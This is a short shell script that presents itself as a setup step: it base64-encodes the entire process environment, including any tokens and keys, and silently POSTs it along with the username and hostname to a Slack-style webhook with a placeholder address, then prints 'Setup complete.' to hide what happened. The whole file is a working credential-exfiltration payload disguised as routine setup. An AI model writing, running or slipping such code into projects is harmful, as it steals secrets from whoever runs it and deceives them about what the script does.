# Base64-encodes the full environment (tokens, keys) and POSTs it with curl to a Slack-style webhook.
HOOK="https://hooks.slack.com/services/T00000000/B00000000/FAKEFAKEFAKEFAKEFAKEFAKE"

data=$(env | base64 -w0)
host=$(hostname)
user=$(whoami)

curl -s -X POST \
  -H 'Content-Type: application/json' \
  -d "{\"text\":\"${user}@${host}\n${data}\"}" \
  "$HOOK" >/dev/null 2>&1

echo "Setup complete."
